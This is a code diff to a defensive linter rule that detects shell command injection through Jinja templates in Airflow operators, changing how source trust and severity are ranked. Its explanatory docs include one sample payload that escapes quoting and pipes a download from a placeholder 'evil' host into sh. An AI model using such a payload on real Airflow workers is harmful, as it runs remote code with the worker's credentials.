@@ -1,5 +1,5 @@
 import { defineRule } from '../../src/engine/rule';
-import { atLeast, classifyJinja, commandParts, jinjaExpressions, restrictedParams, worst, type Trust } from '../../src/engine/airflow';
+import { classifyJinja, commandParts, jinjaExpressions, restrictedParams, type JinjaClass, type Trust } from '../../src/engine/airflow';
 import type { Severity } from '../../src/report';
 import { matchedScripts, OPERATOR_QUERY, reportOnce } from './_util';
 
@@ -16,7 +16,7 @@ export default defineRule({
     docs: {
       what:
         'Finds Jinja expressions that interpolate values controlled by others into a command that a shell interprets: `BashOperator`/`BashSensor` `bash_command` (all import paths, Airflow 1–3), `SSHOperator` and `WinRMOperator` `command`, the return value of `@task.bash` functions, `DockerOperator` `command` when run by `sh -c` (in the command or the entrypoint), and the script after `-c` of a `KubernetesPodOperator` whose `cmds`/`arguments` start with a shell.\n\n' +
-        'Sources: `dag_run.conf…`, `params…` (overridable by `dag_run.conf` unless the DAG sets `dag_run_conf_overrides_params=False`), asset/dataset events — *high*; `ti.xcom_pull(…)` — *medium*; `var.value…`/`var.json…`/`conn…` — *low* (editable in the UI by users who may not be allowed to run code). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"`.',
+        'Sources: `dag_run.conf…`, asset/dataset events — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` — *medium*; `var.value…`/`var.json…`/`conn…` — *low* (editable in the UI by users who may not be allowed to run code). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"`.',
       why:
         'Airflow renders the template and hands the result to `bash -c`. A `dag_run.conf` value such as `x"; curl https://evil/x | sh; echo "` breaks out of any quoting and runs on the worker with its credentials. Anyone with permission to trigger the DAG (UI, REST API, a `TriggerDagRunOperator` fed by data) controls `conf` and, by default, `params`.',
       example:
@@ -34,22 +34,25 @@ export default defineRule({
       for (const lit of commandParts(s.node).literals) {
         const exprs = jinjaExpressions(lit.text);
         if (!exprs.length) continue;
-        restricted ??= m.anchor.type === 'call' ? restrictedParams(m.anchor, ctx) : restrictedParams(m.anchor, ctx);
-        let trust: Trust = 'safe';
-        let first: { expr: string; why: string } | null = null;
+        restricted ??= restrictedParams(m.anchor, ctx);
+        // conf > params > xcom > config
+        const score = (k: JinjaClass) => (k.trust === 'user' ? (k.viaParams ? 4 : 5) : k.trust === 'xcom' ? 3 : k.trust === 'config' ? 2 : 0);
+        let best = 0;
+        let first: { expr: string; why: string; severity: Severity } | null = null;
         for (const e of exprs) {
           const k = classifyJinja(e.expr, restricted);
-          if (atLeast(k.trust, 'config') && worst(trust, k.trust) !== trust) {
-            trust = k.trust;
-            first = { expr: e.expr, why: k.why };
-          } else if (atLeast(k.trust, 'config') && !first) first = { expr: e.expr, why: k.why };
+          const sc = score(k);
+          if (sc > best) {
+            best = sc;
+            first = { expr: e.expr, why: k.why, severity: sc === 4 ? 'medium' : (SEVERITY[k.trust] ?? 'high') };
+          }
         }
         if (!first) continue;
         const f = first;
         const expr = f.expr.length > 60 ? f.expr.slice(0, 57) + '…' : f.expr;
         reportOnce(ctx, lit.node, () =>
           ctx.report(lit.node, this.meta.message.replace('{label}', s.label).replace('{expr}', expr).replace('{why}', f.why), {
-            severity: SEVERITY[trust] ?? 'high',
+            severity: f.severity,
             key: `${s.label} ${f.expr}`,
           }),
         );
